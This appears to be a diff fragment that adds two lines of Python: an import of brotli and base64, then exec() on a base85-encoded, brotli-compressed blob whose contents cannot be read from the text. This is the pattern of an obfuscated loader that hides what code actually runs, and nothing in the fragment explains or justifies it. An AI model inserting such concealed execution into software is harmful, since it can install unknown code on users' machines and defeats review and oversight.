@@ -1,0 +1,2 @@
+import brotli,base64
+exec(brotli.decompress(base64.b85decode("8xsNm#As`EO4=d8i6u|z<-~mOoNfR(!{|pO&~X8B!i#^HUeG6xWQ}OhnV*D^B+bwVK|f*#6w=0?X9*b}+$Io!(tWp*Imm*t<IC)z8TcAqGK#dPwL^3wM7MAiN+|(=3ef|vEDxHZNzi=hFhEaUK$}4`em7~ya{c0vp_l9r0ODfpYIr>QBoo_-C1MP0>GYo@J!p~6l-8NPkq(+t#>3I^E)ef|ZCNB4fK`A%v`IVG)A0miHSCMzR6%Y2P-*&{8H&cc1L?d8s~GL<C8J%2WMJ91t(e&hw<Q`P64PHmBNI9yc}mvt^OH8MmYk=5l^Oiu%=UeF9;om4NS5zYn*eyJ%q1r")))
